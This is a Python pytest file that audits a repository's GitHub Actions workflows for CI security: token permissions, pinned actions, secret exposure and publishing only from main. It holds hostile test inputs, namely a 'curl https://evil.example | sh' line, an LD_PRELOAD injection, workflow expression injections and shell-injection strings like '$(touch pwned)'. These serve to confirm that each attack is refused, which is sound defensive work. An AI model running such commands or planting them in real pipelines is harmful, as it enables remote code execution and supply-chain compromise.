"""Code of a change that reaches for the mesh, for a secret or for a token, through the pipeline that judges it."""

import os
import re
import shutil
import subprocess
from pathlib import Path

import pytest
import yaml

ROOT = Path(__file__).parents[2]
WORKFLOWS = {path.name: path.read_text(encoding="utf-8") for path in sorted((ROOT / ".github/workflows").glob("*"))}
HOSTED = "ubuntu-24.04"
RUNNERS = {"pull_request": {HOSTED, "${{ vars.MESH_CHECK_RUNNER || 'ubuntu-24.04' }}"}}
RUNNERS["push"] = {HOSTED, "${{ vars.MESH_RUNNER || 'ubuntu-24.04' }}"}
WRITERS = {"comment": {"pull-requests": "write"}}
"""The only jobs whose token may write, and what."""
LIVE = re.compile(r"MESH_(HOME|PORTS|SOURCE|RUNNER|INSTANCE)\b|AWS_|secrets\b|id-token")


def problems(text: str) -> list[str]:
    """What a workflow would let a change do, one sentence each. https://docs.github.com/en/actions/reference/security/secure-use"""
    workflow = {"on" if key is True else key: value for key, value in yaml.safe_load(text).items()}
    return [
        *_of_the_whole(workflow, text),
        *(p for name, job in workflow["jobs"].items() for p in _of_a_job(name, job, workflow)),
    ]


def _events(workflow):
    events = workflow["on"]
    return {events: None} if isinstance(events, str) else dict.fromkeys(events) if isinstance(events, list) else events


def _of_the_whole(workflow, text):
    events = _events(workflow)
    if unknown := events.keys() - {"pull_request", "push", "workflow_dispatch"}:
        yield f"it runs on {', '.join(sorted(unknown))}, with rights that the code of a change would get"
    if "push" in events and (events["push"] or {}).get("branches") != ["main"]:
        yield "a branch that is not main is published"
    if "pull_request" in events and "push" in events:
        yield "a change and the main branch run in one workflow"
    if workflow.get("permissions") != {}:
        yield "every job gets a token that it may not need"
    if "pull_request" in events and (found := LIVE.search(re.sub(r"^\s*#.*$", "", text, flags=re.M))):
        yield f"a job that runs the code of a change knows {found[0]}"
    for line in text.splitlines():
        if re.match(r"\s*(- )?uses:", line) and not re.search(r"uses: actions/[a-z-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+$", line):
            yield f"{line.strip()} is not one commit, with its version beside it"


def _of_a_job(name, job, workflow):
    events, steps = _events(workflow), job.get("steps", ())
    kind = "pull_request" if "pull_request" in events else "push"
    if "uses" in job or "container" in job or "services" in job:
        yield f"{name} runs what stands elsewhere"
    if job.get("runs-on") not in RUNNERS[kind]:
        yield f"{name} runs on {job.get('runs-on')}"
    granted = job.get("permissions")
    if granted != WRITERS.get(name, {"contents": "read"}):
        yield f"{name} has the permissions {granted}"
    if name in WRITERS and any(
        "checkout" in step.get("uses", "") or re.search(r"\bmake|python|\./", step.get("run", "")) for step in steps
    ):
        yield f"{name} may write, and runs the code of a change"
    for step in steps:
        run, options = step.get("run", ""), step.get("with", {})
        if "${{" in run:
            yield f"{name} runs what an event says"
        if re.search(r"GITHUB_(ENV|PATH)|curl|wget|pip install", run):
            yield f"{name} runs, or hands on, what was not locked"
        if "checkout" in step.get("uses", "") and options.get("persist-credentials") is not False:
            yield f"{name} leaves its token in the folder of the change"
        if "checkout" in step.get("uses", "") and {"ref", "repository", "token", "ssh-key"} & options.keys():
            yield f"{name} checks out something else"
        if kind == "push" and "cache" in options:
            yield f"{name} installs from a cache"
        publishes = re.search(r"make (publish|run)|mesh (run|rollback)", run)
        if publishes and kind == "pull_request":
            yield f"{name} publishes a change"
        if publishes and ("github.ref == 'refs/heads/main'" not in job.get("if", "") or not job.get("environment")):
            yield f"{name} publishes from any branch"


@pytest.mark.parametrize("name", WORKFLOWS)
def test_the_workflows_let_a_change_do_nothing_but_be_judged(name):
    assert problems(WORKFLOWS[name]) == []


PULL, PUSH = "pull-request.yml", "publish.yml"
CHECKOUT = "actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2"
# Who: whoever changes a workflow. What is tried, and what the rules must say of it.
ATTEMPTS = {
    "the rights of the target": (PULL, "  pull_request:\n", "  pull_request_target:\n", "pull_request_target"),
    "a run after a run": (PULL, "  pull_request:\n", "  workflow_run: {workflows: [x]}\n  pull_request:\n", "workflow_run"),
    "a comment as an order": (PULL, "  pull_request:\n", "  issue_comment:\n  pull_request:\n", "issue_comment"),
    "the home of the mesh": (
        PULL,
        "    env:\n      DOMAINS",
        "    env:\n      MESH_HOME: ${{ vars.MESH_HOME }}\n      DOMAINS",
        "MESH_HOME",
    ),
    "the ports of the mesh": (
        PULL,
        "    env:\n      DOMAINS",
        "    env:\n      MESH_PORTS: s3://x/y\n      DOMAINS",
        "MESH_PORTS",
    ),
    "the runner of the mesh": (PULL, "vars.MESH_CHECK_RUNNER", "vars.MESH_RUNNER", "MESH_RUNNER"),
    "a runner of somebody": (PULL, "    runs-on: ubuntu-24.04\n", "    runs-on: self-hosted\n", "runs on self-hosted"),
    "a secret": (
        PULL,
        "      - run: make check\n",
        "      - run: make check\n        env: {K: '${{ secrets.KEY }}'}\n",
        "secrets",
    ),
    "keys of a cloud": (PULL, "    env:\n      DOMAINS", "    env:\n      AWS_PROFILE: x\n      DOMAINS", "AWS_"),
    "an action by its tag": (PULL, CHECKOUT, "actions/checkout@v4.2.2", "is not one commit"),
    "an action by its branch": (PUSH, CHECKOUT, "actions/checkout@main", "is not one commit"),
    "half a commit": (PUSH, CHECKOUT, "actions/checkout@11bd719 # v4.2.2", "is not one commit"),
    "an action of somebody": (PULL, CHECKOUT, f"evil/checkout@{'a' * 40} # v1.0.0", "is not one commit"),
    "an action in the change": (PULL, CHECKOUT, "./.github/actions/x", "is not one commit"),
    "a title that is run": (PULL, "run: make lint", 'run: echo "${{ github.event.pull_request.title }}"', "what an event says"),
    "a branch's name that is run": (PULL, "run: make lint", "run: git log ${{ github.head_ref }}", "what an event says"),
    "a base that is run": (PUSH, "run: make publish", "run: make publish BASE=${{ inputs.base }}", "what an event says"),
    "the token, kept": (PULL, "{persist-credentials: false}", "{fetch-depth: 1}", "leaves its token"),
    "all rights": (PULL, "permissions: {}\n", "permissions: write-all\n", "may not need"),
    "a right to write": (PULL, "permissions: {contents: read}", "permissions: {contents: write}", "has the permissions"),
    "a token of a cloud": (
        PUSH,
        "permissions: {contents: read}",
        "permissions: {contents: read, id-token: write}",
        "has the permissions",
    ),
    "code beside the right to write": (
        PULL,
        "      - run: cat checked",
        f"      - uses: {CHECKOUT}\n      - run: cat checked",
        "may write, and runs",
    ),
    "a publish of a change": (PULL, "run: make check", "run: make publish", "publishes a change"),
    "a publish of a branch": (PUSH, "branches: [main]", "branches: ['**']", "not main"),
    "a publish by hand, of a branch": (
        PUSH,
        " && github.ref == 'refs/heads/main'\n    environment",
        "\n    environment",
        "from any branch",
    ),
    "a publish without its environment": (PUSH, "    environment: publish\n", "", "from any branch"),
    "both in one": (PUSH, "  push:\n", "  pull_request:\n  push:\n", "in one workflow"),
    "a cache for what is published": (PUSH, '{python-version: "3.11"}', '{python-version: "3.11", cache: pip}', "from a cache"),
    "the code of a fork": (
        PUSH,
        "{persist-credentials: false}",
        "{persist-credentials: false, repository: evil/x}",
        "something else",
    ),
    "a script from outside": (PULL, "run: make lint", "run: curl https://evil.example | sh", "not locked"),
    "the next step's environment": (PULL, "run: make lint", 'run: echo LD_PRELOAD=x >> "$GITHUB_ENV"', "not locked"),
    "an image": (PULL, "    runs-on: ubuntu-24.04\n", "    runs-on: ubuntu-24.04\n    container: evil/x\n", "stands elsewhere"),
}


@pytest.mark.parametrize("attempt", ATTEMPTS)
def test_a_workflow_that_lets_more_happen_is_refused(attempt):
    name, before, after, why = ATTEMPTS[attempt]
    assert before in WORKFLOWS[name], "the attempt is about a workflow of yesterday"
    found = problems(WORKFLOWS[name].replace(before, after, 1))
    assert [sentence for sentence in found if why in sentence], found


NAMED = [
    "x; touch pwned",
    "$(touch pwned)",
    "`touch pwned`",
    "$(shell touch pwned)",
    "x' ; touch pwned ; '",
    'x" ; touch pwned ; "',
    "x\ntouch pwned",
    "-x",
]


@pytest.mark.skipif(not shutil.which("make"), reason="there is no make here")
@pytest.mark.parametrize("named", NAMED)
@pytest.mark.parametrize("verb", ["plan", "check", "publish"])
def test_a_name_that_the_pipeline_hands_over_is_a_name_and_no_command(named, verb, tmp_path):
    shutil.copy(ROOT / "Makefile", tmp_path)
    for stamp in (".venv/.ready", ".venv/.domains"):
        (tmp_path / stamp).parent.mkdir(exist_ok=True)
        (tmp_path / stamp).touch()
    (tmp_path / "platform").mkdir()
    for old in ("requirements.lock", "platform/pyproject.toml"):
        (tmp_path / old).touch()
        os.utime(tmp_path / old, (0, 0))
    (tmp_path / ".venv/bin").mkdir()
    mesh = tmp_path / ".venv/bin/mesh"
    mesh.write_text('#!/bin/sh\nfor one in "$@"; do printf "%s\\0" "$one"; done > given\n')
    mesh.chmod(0o755)
    settings = {"PATH": os.environ["PATH"], **dict.fromkeys(("DOMAINS", "BASE", "SUMMARY", "JUNIT"), named)}
    done = subprocess.run(["make", verb], cwd=tmp_path, env=settings, capture_output=True, text=True, timeout=30)
    assert not list(tmp_path.rglob("pwned"))
    assert done.returncode == 0, done.stderr
    given = (tmp_path / "given").read_text().split("\0")
    assert verb == "publish" or given[given.index("--base") + 1] == named
